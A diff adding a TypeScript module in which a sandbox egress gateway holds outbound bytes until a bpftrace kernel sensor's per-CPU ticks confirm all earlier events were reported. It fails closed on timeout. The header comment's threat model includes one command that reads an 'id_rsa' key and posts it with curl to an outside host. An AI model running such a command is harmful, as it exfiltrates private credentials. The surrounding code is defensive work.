@@ -1,0 +1,92 @@
+// "Has the kernel sensor reported everything that happened before time T?" Threat (issue 13,
+// data flow): `sed … id_rsa | tr -d '\n' | curl --data-binary @- https://allowed-api` reads a
+// key and posts its body within milliseconds. The gateway keeps a credential's values in once
+// the sensor's report of the read arrives; a post that reaches the gateway first would leave
+// unscanned for them. So the gateway holds a sandbox's outbound bytes until the sensor has
+// caught up to the moment they arrived, and only then judges and forwards them.
+//
+// The watermark is exact, not a guess: bpftrace writes to one perf ring per CPU, in order, and
+// a profile probe prints a tick on every CPU (the hrtimer fires on idle CPUs too). Once every
+// CPU's ring has delivered a tick stamped after T, every event stamped before T (a syscall exit
+// on that CPU, before its data could reach us) has been read and, synchronously, published.
+// The CPUs that must tick are the kernel's online list, re-read every second: a CPU taken
+// offline runs nothing and is left out. Not a staleness guess: after a stall (bpftrace stopped or
+// starved) one CPU's whole backlog is read before the next ring's, and a CPU that merely looks
+// behind may still hold the event that matters.
+import { readFileSync } from 'node:fs';
+
+/** Parses the kernel's CPU list format ("0-3,5"). */
+export function parseCpuList(text: string): number[] {
+  const out: number[] = [];
+  for (const part of text.trim().split(',')) {
+    if (!part) continue;
+    const [a, b] = part.split('-').map(Number);
+    for (let c = a!; c <= (b ?? a!); c++) out.push(c);
+  }
+  return out;
+}
+
+const onlineCpus = (): number[] => parseCpuList(readFileSync('/sys/devices/system/cpu/online', 'utf8'));
+
+interface Waiter { at: bigint; done: (ok: boolean) => void }
+
+export class SensorCatchUp {
+  readonly #ticks = new Map<number, bigint>();
+  readonly #online: () => number[];
+  #cpus: number[] = [];
+  #cpusReadAt = -Infinity;
+
+  constructor(online: () => number[] = onlineCpus) { this.#online = online; }
+  #waiters: Waiter[] = [];
+  #closed = false;
+
+  /** A tick read from `cpu`'s ring, stamped `ns` (kernel monotonic, bpftrace's nsecs). */
+  tick(cpu: number, ns: bigint): void {
+    this.#ticks.set(cpu, ns);
+    if (this.#waiters.length === 0) return;
+    const mark = this.watermark();
+    if (mark === undefined) return;
+    const still: Waiter[] = [];
+    for (const w of this.#waiters) if (w.at <= mark) w.done(true); else still.push(w);
+    this.#waiters = still;
+  }
+
+  /** Everything stamped before this has been delivered; undefined until every online CPU ticked. */
+  watermark(): bigint | undefined {
+    const now = performance.now();
+    if (now - this.#cpusReadAt > 1000) {
+      try { this.#cpus = this.#online(); } catch { this.#cpus = [...this.#ticks.keys()]; }
+      this.#cpusReadAt = now;
+    }
+    let min: bigint | undefined;
+    for (const c of this.#cpus.length > 0 ? this.#cpus : this.#ticks.keys()) {
+      const t = this.#ticks.get(c);
+      if (t === undefined) return undefined;
+      if (min === undefined || t < min) min = t;
+    }
+    return min;
+  }
+
+  /**
+   * Resolves true once every event before `ns` (process.hrtime.bigint(), the same clock) was
+   * delivered; false after `timeoutMs`, or when the sensor stops: the caller fails closed.
+   */
+  wait(ns: bigint, timeoutMs: number): Promise<boolean> {
+    if (this.#closed) return Promise.resolve(false);
+    const mark = this.watermark();
+    if (mark !== undefined && ns <= mark) return Promise.resolve(true);
+    return new Promise((resolve) => {
+      const timer = setTimeout(() => { this.#waiters = this.#waiters.filter((w) => w !== entry); resolve(false); }, timeoutMs);
+      timer.unref();
+      const entry: Waiter = { at: ns, done: (ok: boolean) => { clearTimeout(timer); resolve(ok); } };
+      this.#waiters.push(entry);
+    });
+  }
+
+  /** The sensor stopped or died: nobody waits for it any more. */
+  close(): void {
+    this.#closed = true;
+    for (const w of this.#waiters) w.done(false);
+    this.#waiters = [];
+  }
+}
